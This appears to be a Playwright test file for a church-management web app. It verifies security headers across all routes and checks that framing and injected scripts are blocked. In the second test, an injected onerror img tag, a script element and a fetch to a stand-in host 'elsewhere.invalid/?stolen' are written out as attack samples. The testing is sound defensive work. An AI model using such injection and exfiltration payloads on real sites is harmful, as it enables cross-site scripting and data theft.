import { readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import { expect } from '@playwright/test'
import type { Page } from '@playwright/test'
import { TABLES } from '../../../supabase/tests/tables.ts'
import { databaseOf, foundChurch, makeAdmin } from './church.ts'
import { journeysOrigin } from './place.ts'
import { test } from './watched-test.ts'

/** Returns every address of the app, as the router writes it ('/members/$id'). */
function routePaths(): string[] {
  const tree = readFileSync(resolve(import.meta.dirname, '../../route-tree.gen.ts'), 'utf8')
  const [, byTo = ''] = /interface FileRoutesByTo \{([^}]*)\}/.exec(tree) ?? []
  return [...byTo.matchAll(/'(\/[^']*)': typeof/g)].map(([, path = '']) => path)
}

/** Adds a row to each table that has pages. Returns the ids of the rows, by the first part of the page's address. */
async function addOneOfEach(username: string): Promise<Map<string, string>> {
  const db = await databaseOf(username)
  const ids = new Map<string, string>()
  const place = { church: '', person: '', row: () => '' }
  for (const [table, { api, commands, row }] of Object.entries(TABLES)) {
    if (!api || !commands) continue
    const added = db.from(table as 'members').insert(row!(place, '') as never)
    ids.set(api.path.slice(1), (await added.select('id').single().throwOnError()).data.id)
  }
  return ids
}

test('in the dark theme, no page violates the content security policy', async ({ page, context }) => {
  const username = await foundChurch(context)
  await makeAdmin(username)
  const ids = await addOneOfEach(username)
  const paths = routePaths()
  expect(paths.length).toBeGreaterThan(30)
  await page.addInitScript(() => localStorage.setItem('narthex.theme', 'dark'))
  await page.goto('/dashboard')
  for (const path of [...paths, '/nothing-here']) {
    const [, kind = ''] = path.split('/')
    if (path.includes('$id')) expect([...ids.keys()], path).toContain(kind)
    const address = path.replace('$id', ids.get(kind) ?? '')
    const answer = await page.request.get(address)
    expect(answer.headers(), path).toMatchObject({
      'content-security-policy': expect.stringContaining("default-src 'none'; script-src 'self' 'wasm-unsafe-eval';"),
      'permissions-policy': expect.stringContaining('camera=(self)'),
      'x-content-type-options': 'nosniff',
    })
    await follow(page, address)
    await expect(page.getByRole('heading', { level: 1 }), path).toBeVisible()
    expect(await page.evaluate(() => [document.documentElement.dataset.theme, crossOriginIsolated])).toEqual([
      'dark',
      true,
    ])
  }
})

/**
 * Opens a page by changing the address, which takes a tenth of the time of a load. Resolves when the previous page is
 * gone, or after three seconds. Some addresses lead back to the same page, as `/login` does for signed-in people.
 */
async function follow(page: Page, address: string): Promise<void> {
  await page.evaluate(async (to) => {
    const before = document.querySelector('h1')
    const isStillThere = () => before?.isConnected === true
    history.pushState(null, '', to)
    dispatchEvent(new PopStateEvent('popstate'))
    const end = performance.now() + 3000
    while (isStillThere() && performance.now() < end) await new Promise((later) => setTimeout(later, 16))
  }, address)
}

test('other sites cannot show a page of the app in a frame, and an injected script does not run', async ({
  browser,
}) => {
  const page = await browser.newPage()
  await page.route('http://elsewhere.localhost/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${journeysOrigin()}/login"></iframe>` }),
  )
  await page.goto('http://elsewhere.localhost/')
  await expect.poll(() => page.frames()[1]?.url()).toContain('chrome-error:')
  await page.goto(`${journeysOrigin()}/login`)
  await page.evaluate(() => {
    document.body.insertAdjacentHTML('beforeend', '<img src="/nothing" onerror="globalThis.ran = true">')
    const script = document.createElement('script')
    script.textContent = 'globalThis.ran = true'
    document.body.append(script)
  })
  await page.waitForLoadState('networkidle')
  expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false)
  await page.route('https://elsewhere.invalid/**', (route) =>
    route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: 'stolen' }),
  )
  const outcome = page.evaluate(() => fetch('https://elsewhere.invalid/?stolen').catch((error: Error) => error.message))
  expect(await outcome).toBe('Failed to fetch')
  await page.close()
})
